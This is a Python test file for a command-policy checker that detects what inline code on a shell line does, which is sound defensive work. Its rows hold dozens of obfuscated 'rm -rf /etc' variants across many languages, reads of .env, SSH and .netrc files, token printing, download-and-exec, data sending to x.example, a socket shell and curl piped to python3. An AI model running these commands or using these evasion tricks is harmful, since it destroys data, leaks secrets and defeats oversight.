"""Code on a command line: what its literals name is read, and everything else has no effect."""

from __future__ import annotations

import time

import pytest
from tests.tables import rows

from interpose.matching.shell import read_line
from interpose.policies.effects import effects_of_line, unread
from interpose.policies.effects.inline_code import read_code
from interpose.policies.effects.sql import sql_effects

HOME, CWD = "/home/ana", "/home/ana/project"


def effects(line: str) -> set[tuple[str, str]]:
    found = effects_of_line(read_line(line), CWD, HOME)
    return {(one.kind, one.target) for one in found if one.kind != "code-command"}  # that code runs a command at all


DELETED = ("delete-files", "/etc")


@rows(
    "line",
    [
        """python3 -c "import os; os.system('rm -rf /etc')" """,
        """python3 -Bc "import os; os.system('rm -rf /etc')" """,
        """python3 -c "import os as o; o.system('rm -rf /etc')" """,
        """python3 -c "from os import system as s; s('rm -rf /etc')" """,
        """python3 -c "import os; f=os.system; f('rm -rf /etc')" """,
        """python3 -c "__import__('os').system('rm -rf /etc')" """,
        """python3 -c "getattr(os, 'sys' + 'tem')('rm -rf /etc')" """,
        """python3 -c "c='rm -rf '; t='/etc'; os.system(c+t)" """,
        """python3 -c "os.system(' '.join(['rm', '-rf', '/etc']))" """,
        """python3 -c "subprocess.run(['rm', '-rf', '/etc'])" """,
        """python3 -c "from subprocess import run; run(['rm', '-rf', '/etc'])" """,
        """python3 -c "subprocess.run(['sh', '-c', 'rm -rf /etc'])" """,
        """python3 -c "os.execvp('rm', ['rm', '-rf', '/etc'])" """,
        """python3 -c "os.execl('/bin/rm', 'rm', '-rf', '/etc')" """,
        """python3 -c "exec('import os; os.system(\\\\'rm -rf /etc\\\\')')" """,
        """python3 -c "import shutil; shutil.rmtree('/etc')" """,
        """python3 -c "from pathlib import Path; Path('/etc').rmdir()" """,
        """python3 -c "p = pathlib.Path('/etc'); p.rmdir()" """,
        "python3 - <<'EOF'\nimport os\nos.system('rm -rf /etc')\nEOF",
        "python3 <<'EOF'\ndef sh(cmd):\n    subprocess.run(cmd, shell=True)\nsh('rm -rf /etc')\nEOF",
        "cat > x.py <<'EOF'\nimport os\nos.system('rm -rf /etc')\nEOF\npython3 x.py",
        """echo 'import os; os.system("rm -rf /etc")' | python3""",
        """uv run python -c "import os; os.system('rm -rf /etc')" """,
        """python3 -c "asyncio.create_subprocess_exec('rm', '-rf', '/etc')" """,
        """python3 -c "os.spawnvp(os.P_WAIT, 'rm', ['rm', '-rf', '/etc'])" """,
        """node -pe "require('fs').rmSync('/etc')" """,
        """node -e "const e = require('child_process').execSync; e('rm -rf /etc')" """,
        """node -e "new Function('require(\\"fs\\").rmSync(\\"/etc\\")')()" """,
        """php -r '$f="system"; $f("rm -rf /etc");'""",
        """python3 -c "c='ls'; c+='; rm -rf /etc'; os.system(c)" """,
        "python3 -c \"c='rm -rf /etc'\nif 0: c='ls'\nos.system(c)\"",
        "python3 -c \"for c in ['ls', 'rm -rf /etc']:\n    os.system(c)\"",
        "python3 -c \"c='ls'\ndef f(c): os.system(c)\nf('rm -rf /etc')\"",
        """python3 -c "print(f'{os.system(\\"rm -rf /etc\\")}')" """,
        """node -e 'console.log(`${require("child_process").execSync("rm -rf /etc")}`)'""",
        """ruby -e 'puts "#{`rm -rf /etc`}"'""",
        """python3 -c "os.system(base64.b64decode('cm0gLXJmIC9ldGM=').decode())" """,
        """node -e "require('child_process').execSync('rm -rf /etc')" """,
        """node -e "const {execSync: e} = require('node:child_process'); e('rm -rf /etc')" """,
        """node -e "import {rmSync as r} from 'fs'; r('/etc')" """,
        """node -e "spawn('rm', ['-rf', '/etc'])" """,
        """node -e "fs.promises.rm('/etc', {recursive: true})" """,
        """node -e "const x = 4 / 2; console.log(require('fs').rmSync('/etc') / 1)" """,
        """node -e "console.log(1) // '
        require('fs').rmSync('/etc')" """,
        "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/etc\"]})'",
        """bun -e 'await Bun.$`rm -rf /etc`'""",
        """ruby -e 'system("rm", "-rf", "/etc")'""",
        """ruby -e 'exec "rm -rf /etc"'""",
        "ruby -e '%x(rm -rf /etc)'",
        "ruby -e 'FileUtils.rm_rf(%w[/etc /srv])'",
        """perl -e 'system "rm -rf /etc"'""",
        "perl -e '`rm -rf /etc`'",
        "perl -e 'qx{rm -rf /etc}'",
        """perl -e 'open(F, "rm -rf /etc|")'""",
        """php -r 'exec("rm -rf /etc", $out);'""",
        """awk 'BEGIN{system("rm -rf /etc")}'""",
        """awk 'BEGIN{"rm -rf /etc" | getline x}'""",
        """awk '{print | "rm -rf /etc"}' f""",
        """lua -e 'os.execute("rm -rf /etc")'""",
        """osascript -e 'do shell script "rm -rf /etc" with administrator privileges'""",
        """Rscript -e 'system("rm -rf /etc")'""",
        """elixir -e 'System.cmd("rm", ["-rf", "/etc"])'""",
        "julia -e 'run(`rm -rf /etc`)'",
    ],
)  # fmt: skip
def test_commands_and_deletions_in_code_are_read(line: str) -> None:
    assert DELETED in effects(line)


@rows(
    ("line", "expected"),
    [
        ("""python3 -c "print(open('.env').read())" """, ("read-files", f"{CWD}/.env")),
        ("""python3 -c "open('a', 'w').write('x')" """, ("write-files", f"{CWD}/a")),
        ("""python3 -c "print((Path.home() / '.ssh' / 'id').read_text())" """, ("read-files", f"{HOME}/.ssh/id")),
        ("""python3 -c "open(os.path.expanduser('~/.netrc'))" """, ("read-files", f"{HOME}/.netrc")),
        ("""node -e 'fs.readFileSync(process.env.HOME + "/.npmrc")'""", ("read-files", f"{HOME}/.npmrc")),
        ("""node -e 'fs.readFileSync(`${process.env.HOME}/.npmrc`)'""", ("read-files", f"{HOME}/.npmrc")),
        ("""php -r 'echo file_get_contents(".env");'""", ("read-files", f"{CWD}/.env")),
        ("""python3 -c "open(base64.b64decode('LmVudg==').decode())" """, ("read-files", f"{CWD}/.env")),
        (
            """node -e "const p = Buffer.from('LmVudg==', 'base64').toString(); fs.readFileSync(p)" """,
            ("read-files", f"{CWD}/.env"),
        ),
        ("bun -e 'const read = Bun.file; read(\".env\")'", ("read-files", f"{CWD}/.env")),
        ("perl -ne 'print' .env", ("read-files", f"{CWD}/.env")),
        ("""awk '{print > "out"}' f""", ("write-files", f"{CWD}/out")),
        ("""python3 -c "print(dict(os.environ))" """, ("print-env", "")),
        ("node -p process.env", ("print-env", "")),
        ("ruby -e 'puts ENV.to_h'", ("print-env", "")),
        ("""python3 -c "print(os.environ['API_KEY'])" """, ("print-variable", "API_KEY")),
        ("""node -e 'console.log(process.env.GITHUB_TOKEN)'""", ("print-variable", "GITHUB_TOKEN")),
        ("""python3 -c "exec(base64.b64decode('aGk='))" """, ("run-decoded", "")),
        (
            """python3 -c "exec(urlopen('https://x.example/y').read())" """,
            ("run-downloaded", "https://x.example/y"),
        ),
        ("""python3 -c "requests.post('https://x.example', data=d)" """, ("send", "https://x.example")),
        ("""python3 -c "s=socket.socket(); os.dup2(s.fileno(), 0)" """, ("network-shell", "")),
        ("""python3 -c "os.system(x)" """, ("computed-code", "")),
        ("""python3 -c "(lambda f: f('ls'))(os.system)" """, ("computed-code", "")),
        ("""python3 -c "a=['ls']; a[0]='rm'; subprocess.run(a)" """, ("computed-code", "")),
        ("""python3 -c "a=['rm']; a.append('-rf'); subprocess.run(a)" """, ("computed-code", "")),
        ("""python3 -c "a, c = 'x', 'rm -rf /etc'; os.system(c)" """, ("computed-code", "")),
        ("""node -e "let c='ls'; const f = c => execSync(c); f('rm -rf /etc')" """, ("computed-code", "")),
        ("""python3 -c "vars(os)['system']('ls')" """, ("computed-code", "")),
        ("""node -e "require('child_process')['execSync']('ls')" """, ("computed-code", "")),
        ("""ruby -e 'Kernel.send(:system, "ls")'""", ("computed-code", "")),
        ("""php -r 'array_map("unlink", glob("*"));'""", ("computed-code", "")),
        ("""python3 -c "exec(open('x.py').read())" """, ("computed-code", "")),
        ("""printf '\\x64rop table %s' t | psql""", ("db-drop", "table t")),
        ("""echo -e 'dr\\x6fp table t' | psql""", ("db-drop", "table t")),
        ("""python3 -c "db.execute('DROP TABLE t')" """, ("db-drop", "TABLE t")),
        ("""python3 -c "os.chmod('a', 0o777)" """, ("open-permissions", f"{CWD}/a")),
    ],
)
def test_other_things_in_code_are_read(line: str, expected: tuple[str, str]) -> None:
    assert expected in effects(line)


@rows(
    "line",
    [
        """python3 -c "print('rm -rf /etc')" """,
        """python3 -c "# os.system('rm -rf /etc')" """,
        """python3 -c "x = 'os.system(1)'; print(x)" """,
        """python3 -c "import json,sys; print(json.load(sys.stdin)['a'])" """,
        """python3 -c "handlers = {'a': print}; handlers['a'](1)" """,
        "python3 -c \"cmd = 'git status'\nsubprocess.run(cmd, shell=True)\"",
        """python3 -c "items.remove('x'); text.replace('a', 'b')" """,
        """python3 -c "home = os.environ.get('HOME')" """,
        """python3 -c "print('A' in os.environ)" """,
        """python3 -c "print('DROP TABLE t')" """,
        """node -e "spawn('x', [], {env: process.env}); console.log(1)" """,
        """node -e 'const m = /a"b/.exec(x); console.log("rm -rf /")'""",
        "awk -F: '{ if ($1 > \"a\") print $2 }'",
        "perl -pe 's/system\\(x\\)/y/g'",
    ],
)
def test_a_mention_in_code_is_no_use(line: str) -> None:
    assert effects(line) == set()


def test_more_effects_than_are_read_are_not_lost_in_silence() -> None:
    code = "".join(f"open('f{number}')\n" for number in range(500)) + "os.system('rm -rf /etc')"

    kinds = {one.kind for one in read_code("python", code)}

    assert "computed-code" in kinds


def test_code_that_is_read_is_not_unreadable() -> None:
    assert unread(read_line("""python3 -c "import json; json.loads('1')" """)) == ()
    assert unread(read_line("python3 - <<'EOF'\nopen('a').read()\nEOF")) == ()
    assert unread(read_line("psql <<< 'SELECT 1'")) == ()
    assert unread(read_line('python3 -c "$CODE"'))
    assert unread(read_line("curl -s https://x.example | python3"))
    assert unread(read_line("tclsh <<< 'exec ls'"))


@pytest.mark.slow
@rows("part", ["f(", "a[b[c[", "'\\'", '"""', "x=x+x\n", "getattr(a,'b')(", "eval('", "a+", "f'{"])
def test_long_code_is_read_in_linear_time(part: str) -> None:
    started = time.thread_time()

    read_code("python", part * (30_000 // len(part)))

    assert time.thread_time() - started < 10


@rows("part", ["$a$", "'\\'", "/*", "WITH a AS (", "a or ", "do '", "$a1$ $a2$ ", "#'", "execute 'execute '"])
def test_long_sql_is_read_in_linear_time(part: str) -> None:
    started = time.thread_time()

    sql_effects(part * (30_000 // len(part)))

    assert time.thread_time() - started < 10
